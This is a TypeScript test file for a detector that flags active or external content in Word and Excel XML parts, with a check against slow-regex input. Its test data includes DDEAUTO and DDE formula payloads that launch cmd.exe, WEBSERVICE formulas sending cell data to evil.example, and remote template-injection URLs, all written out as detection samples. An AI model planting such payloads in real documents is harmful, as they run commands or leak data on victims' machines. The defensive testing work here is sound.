import { expect, test } from 'vitest'
import { activeText, hasText, isActiveName } from './active.ts'

const TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const relation = (type: string, target: string, mode = 'External'): string =>
  `<Relationships><Relationship Id="r1" Type="${TYPE}/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`

test.each([
  ['attachedTemplate', 'https://evil.example/x.dotm', true],
  ['attachedTemplate', '\\\\evil\\share\\x.dotm', true],
  ['attachedTemplate', 'file://evil/x.dotm', true],
  ['attachedTemplate', 'file:///C:\\Users\\li\\报告.dotx', false],
  ['attachedTemplate', 'Normal.dotm', false],
  ['attachedTemplate', '报告%20模板.dotx', false],
  ['attachedTemplate', '%5C%5Cevil%5Cx.dotm', true],
  ['oleObject', 'https://evil.example/x', true],
  ['frame', 'https://evil.example/x', true],
  ['subDocument', 'https://evil.example/x', true],
  ['hyperlink', 'https://example.com/', false],
  ['image', 'https://example.com/x.png', false],
  ['externalLinkPath', '去年.xlsx', false],
  ['externalLinkPath', 'https://evil.example/x.xlsx', true],
])('a foreign %s at %s: %s', (type, target, active) => {
  const name = 'word/_rels/settings.xml.rels'
  expect(activeText(name, relation(type, target))).toBe(active)
  expect(activeText(name, relation(type, target, 'Internal'))).toBe(false)
})

test.each([
  ['<w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"', true],
  ['<w:fldSimple w:instr=" DDE excel ">', true],
  ['<w:instrText> INCLUDETEXT "https://evil.example/x"', true],
  ['<w:instrText> PAGE </w:instrText>', false],
  ['<w:t>DDEAUTO 是什么</w:t>', false],
  ['<ddeLink ddeService="cmd" ddeTopic="/c calc">', true],
  ['<x:oleLink r:id="r1">', true],
  ["<c><f>cmd|'/C calc'!A0</f></c>", true],
  ['<c><f>WEBSERVICE("https://evil.example/"&amp;A1)</f></c>', true],
  ['<c><f>SUM(A1:A9)</f><v>9</v></c>', false],
  ["<c><f>'去年'!A1</f></c>", false],
])('%j is active: %s', (text, active) => {
  expect(activeText('xl/worksheets/sheet1.xml', text)).toBe(active)
})

test('names', () => {
  expect(['word/vbaProject.bin', 'a.ZIP', 'x/y.docm'].every(isActiveName)).toBe(true)
  expect(['word/media/a.png', 'word/embeddings/表.xlsx'].some(isActiveName)).toBe(false)
  expect([hasText('a/b.rels'), hasText('a.xml'), hasText('a.bin')]).toEqual([true, true, false])
})

test('a text made to be slow to read is not', () => {
  const long = 66_000
  for (const one of [
    '|',
    '<f',
    '<f>|',
    '<w:instrText ',
    '<Relationship ',
    'WEBSERVICE ',
    ' ',
    '<f>!|',
  ])
    for (const name of ['a.xml', 'a.rels']) {
      const text = `<f>${one.repeat(Math.ceil(long / one.length))}`
      const begun = performance.now()
      activeText(name, text)
      expect(performance.now() - begun).toBeLessThan(500)
    }
})
